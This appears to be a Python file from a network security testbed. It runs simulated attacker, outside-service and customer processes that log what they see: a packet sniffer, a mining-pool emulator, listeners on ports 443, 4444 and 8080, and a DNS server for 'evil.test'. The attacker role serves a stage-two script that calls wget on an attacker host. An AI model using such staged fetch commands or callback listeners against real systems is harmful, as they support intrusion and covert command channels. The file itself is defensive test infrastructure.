"""The processes that play the world, each started in a namespace of its own; what they saw goes into a report file.

``python -m testbed.servers attacker|outside|customer REPORT ADDRESS``. Each event is one JSON line, see
:class:`Event`. The attacker's script server, pool, listeners and name server are harmless: they answer and write down.
"""

import asyncio
import os
import socket
import struct
import sys
import threading
import time
from collections.abc import Awaitable, Callable, Coroutine
from pathlib import Path
from typing import Final, cast

import msgspec
from msgspec import Struct

HTTP_PORT: Final = 80
POOL_PORT: Final = 3333
TCP_PORTS: Final = (443, 4444, 8080)
UDP_PORT: Final = 9999
FENCE_PORT: Final = 9
DNS_PORT: Final = 53
PAYMENT_PORT: Final = 8443
EVIL_DOMAIN: Final = "evil.test"

_PACKET_STATISTICS: Final = 6  # packet(7)
_SOL_PACKET: Final = 263
_SO_RCVBUFFORCE: Final = 33  # socket(7)
_ETH_P_ALL: Final = 3
_GIVE_UP_MS: Final = 1000
_NEIGHBOURS: Final = frozenset({*range(130, 138), 143})
"""ICMPv6 types by which the two kernels on a link find each other: RFC 4861, RFC 3810. Nobody's payload."""


class Event(Struct, omit_defaults=True):
    """Something that a server saw."""

    kind: str
    """``ready``, ``frame``, ``fence``, ``http``, ``pool``, ``tcp``, ``udp``, ``dns``, ``request``."""
    at: float = 0.0
    protocol: str = ""
    """Frames: ``tcp``, ``udp``, ``icmp``, else ``raw``; ``lost``: frames that could not be counted."""
    version: int = 0
    """Frames: of IP."""
    bytes: int = 0
    """Frames: with the IP header. Others: payload."""
    port: int = 0
    text: str = ""
    """Frames: the first 60 bytes, hexadecimal."""
    failed: bool = False


class Report:
    """Appends events to a file, each with one ``write``, so that a reader sees whole lines."""

    def __init__(self, path: Path) -> None:
        self._fd = os.open(path, os.O_WRONLY | os.O_APPEND | os.O_CREAT, 0o600)

    def __call__(self, event: Event) -> None:
        """Append one event, with the time."""
        event.at = time.time()
        os.write(self._fd, msgspec.json.encode(event) + b"\n")


def sniff(report: Report) -> None:
    """Report every IP packet that reaches this namespace from outside, for ever."""
    sniffer = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(_ETH_P_ALL))
    sniffer.setsockopt(socket.SOL_SOCKET, _SO_RCVBUFFORCE, 64 << 20)
    report(Event("sniffing"))
    while True:
        packet, (interface, _, direction, *_) = sniffer.recvfrom(65535)
        if interface == "lo" or direction == socket.PACKET_OUTGOING:
            continue
        event = frame(packet)
        if event is not None:
            report(event)
        lost = struct.unpack("II", sniffer.getsockopt(_SOL_PACKET, _PACKET_STATISTICS, 8))[1]
        if lost:
            report(Event("frame", protocol="lost", bytes=lost))


def frame(packet: bytes) -> Event | None:
    """Return what a packet is; None for ARP and for ICMPv6 between the two kernels on the link."""
    version = packet[0] >> 4 if packet else 0
    if version == 4 and len(packet) >= 20:
        protocol, start = packet[9], (packet[0] & 15) * 4
    elif version == 6 and len(packet) >= 40:
        protocol, start = packet[6], 40
        if protocol == 0 and len(packet) >= 48:  # hop-by-hop options, as MLD has them: RFC 8200 section 4.3
            protocol, start = packet[40], 48 + packet[41] * 8
    else:
        return None
    body = packet[start:]
    if version == 6 and protocol == socket.IPPROTO_ICMPV6 and body[:1] and body[0] in _NEIGHBOURS:
        return None
    name = {6: "tcp", 17: "udp", 1: "icmp", 58: "icmp"}.get(protocol, "raw")
    port = struct.unpack(">H", body[2:4])[0] if name in {"tcp", "udp"} and len(body) >= 8 else 0
    if name == "udp" and port == FENCE_PORT:
        return Event("fence", text=body[8:].decode(errors="replace"))
    return Event("frame", protocol=name, version=version, bytes=len(packet), port=port, text=packet[:60].hex())


async def attacker(report: Report, home: str) -> None:
    """Be the attacker's servers: script, pool, listeners, name server."""
    script = f"echo stage-two; wget -q -O /dev/null http://{home}/stage-two\n".encode()

    async def serve_script(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        line = (await reader.readline()).decode(errors="replace").strip()
        if line:
            report(Event("http", bytes=len(line), text=line))
            writer.write(b"HTTP/1.0 200 OK\r\nContent-Length: %d\r\n\r\n%s" % (len(script), script))

    async def serve_pool(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        while line := (await reader.readline()).decode(errors="replace").strip():
            report(Event("pool", bytes=len(line), text=line[:200]))
            writer.write(b'{"id":1,"jsonrpc":"2.0","error":null,"result":{"id":"1","status":"OK"}}\n')

    async def serve_any(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        port = writer.get_extra_info("sockname")[1]
        report(Event("tcp", port=port, text="connected"))
        while data := await reader.read(65536):
            report(Event("tcp", port=port, bytes=len(data), text=data[:100].decode(errors="replace")))
            writer.write(b"thanks\n")

    await _listen(HTTP_PORT, serve_script)
    await _listen(POOL_PORT, serve_pool)
    for port in TCP_PORTS:
        await _listen(port, serve_any)
    await _datagrams(UDP_PORT, lambda data: _note(report, data))
    await _datagrams(DNS_PORT, lambda query: _answer(report, query))
    threading.Thread(target=sniff, args=(report,), daemon=True).start()
    await _stay(report)


async def outside(report: Report, name_server: str) -> None:
    """Be the honest payment service and the network's resolver, which asks the attacker's name server as any would."""

    async def pay(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        if await reader.readline():
            report(Event("http", text="paid"))
            writer.write(b"HTTP/1.0 200 OK\r\n\r\npaid\n")

    upstream = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    upstream.connect((name_server, DNS_PORT))
    upstream.settimeout(2)

    def resolve(query: bytes) -> bytes:
        name = _name(query)
        report(Event("dns", text=name))
        if not name.endswith(EVIL_DOMAIN):
            return query[:2] + b"\x81\x83" + query[4:]  # NXDOMAIN
        upstream.send(query)
        return upstream.recv(512)

    await _listen(PAYMENT_PORT, pay)
    await _datagrams(DNS_PORT, resolve)
    await _stay(report)


async def customer(report: Report, shop: str) -> None:
    """Be the shop's customers: one order after the other, each written down as served or failed."""
    report(Event("ready"))
    while True:
        try:
            async with asyncio.timeout(10):
                reader, writer = await asyncio.open_connection(shop, 8080)
                writer.write(b"GET /order HTTP/1.0\r\n\r\n")
                answer = (await reader.read()).decode(errors="replace")
                writer.close()
            report(Event("request", text=answer[-80:], failed=" 200 OK" not in answer))
        except (OSError, TimeoutError) as error:
            report(Event("request", text=repr(error), failed=True))
        await asyncio.sleep(0.02)


async def _listen(port: int, serve: Callable[[asyncio.StreamReader, asyncio.StreamWriter], Awaitable[None]]) -> None:
    async def served(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        try:
            await serve(reader, writer)
            await writer.drain()
        except (OSError, ValueError):
            pass
        finally:
            writer.close()

    listener = socket.create_server(("", port), family=socket.AF_INET6, dualstack_ipv6=True, backlog=1024)
    # Inherited by connections. An answer to a container that is gone would be repeated for minutes, reach the next one
    # that gets its address, and make that one's kernel send a reset.
    listener.setsockopt(socket.IPPROTO_TCP, socket.TCP_USER_TIMEOUT, _GIVE_UP_MS)
    await asyncio.start_server(served, sock=listener)


async def _datagrams(port: int, answer: Callable[[bytes], bytes]) -> None:
    class Protocol(asyncio.DatagramProtocol):
        def connection_made(self, transport: asyncio.BaseTransport) -> None:
            self.transport = cast("asyncio.DatagramTransport", transport)

        def datagram_received(self, data: bytes, address: tuple[str, int]) -> None:
            self.transport.sendto(answer(data), address)

    here = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    here.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
    here.bind(("", port))
    await asyncio.get_running_loop().create_datagram_endpoint(Protocol, sock=here)


def _note(report: Report, data: bytes) -> bytes:
    report(Event("udp", bytes=len(data), text=data[:100].decode(errors="replace")))
    return b"thanks\n"


def _answer(report: Report, query: bytes) -> bytes:
    report(Event("dns", bytes=len(query), text=_name(query)))
    address = b"\xc0\x0c\0\x01\0\x01\0\0\0\x3c\0\x04\x0a\xd7\0\x02"
    return query[:2] + b"\x85\x80\0\x01\0\x01\0\0\0\0" + query[12:] + address


def _name(query: bytes) -> str:
    labels, at = [], 12
    while at < len(query) and query[at]:
        labels.append(query[at + 1 : at + 1 + query[at]].decode(errors="replace"))
        at += 1 + query[at]
    return ".".join(labels)


async def _stay(report: Report) -> None:
    report(Event("ready"))
    await asyncio.Event().wait()


_ROLES: Final[dict[str, Callable[[Report, str], Coroutine[None, None, None]]]] = {
    "attacker": attacker,
    "outside": outside,
    "customer": customer,
}

if __name__ == "__main__":
    asyncio.run(_ROLES[sys.argv[1]](Report(Path(sys.argv[2])), sys.argv[3]))
